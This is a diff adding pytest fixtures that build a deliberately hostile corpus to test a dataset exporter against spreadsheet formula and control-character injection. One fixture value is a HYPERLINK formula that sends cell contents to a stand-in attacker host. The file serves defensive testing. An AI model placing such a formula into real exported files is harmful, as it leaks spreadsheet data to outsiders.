@@ -1,0 +1,65 @@
+"""The dataset of the repository, and that of a small corpus whose texts try to be formulas, markup and control codes."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from build_scripts.corpus import load_corpus
+from build_scripts.model import Corpus
+from build_scripts.publishing.dataset import Data, dataset_files
+from build_scripts.publishing.export import corpus_json, data_of
+from build_scripts.store.edition import Edition
+
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"点我")'
+STARTS = (
+    FORMULA,
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1",
+    "'=1",
+    '"quoted", "twice"',
+    "行一\n行二",
+)
+
+
+@pytest.fixture(scope="session")
+def real(root: Path) -> Data:
+    loaded, problems = load_corpus(root)
+    assert loaded is not None, "\n".join(map(str, problems))
+    return data_of(loaded, COMMIT, root)
+
+
+@pytest.fixture(scope="session")
+def files(real: Data) -> dict[str, bytes]:
+    return dataset_files(real)
+
+
+@pytest.fixture(scope="session")
+def hostile(corpus: Corpus) -> Data:
+    """The small corpus; its hostile measure has a formula for a heading and bodies named after every bad beginning."""
+    held = [
+        replace(d, measures=tuple(_worse(m) for m in d.measures)) if d.id == "hostile" else d for d in corpus.documents
+    ]
+    corpus = replace(corpus, documents=tuple(held))
+    received = {d.id: corpus.sources[d.id].encode() for d in held}
+    edition = Edition("2026.1", "2026-11-21")
+    return Data(corpus, corpus_json(corpus, COMMIT, edition.version), edition, COMMIT, received, {})
+
+
+def _worse(measure):
+    duties = tuple(replace(measure.responsibilities[0], name=name) for name in STARTS)
+    return replace(measure, heading=FORMULA, note="+1", responsibilities=duties)
+
+
+@pytest.fixture(scope="session")
+def hostile_files(hostile: Data) -> dict[str, bytes]:
+    return dataset_files(hostile)
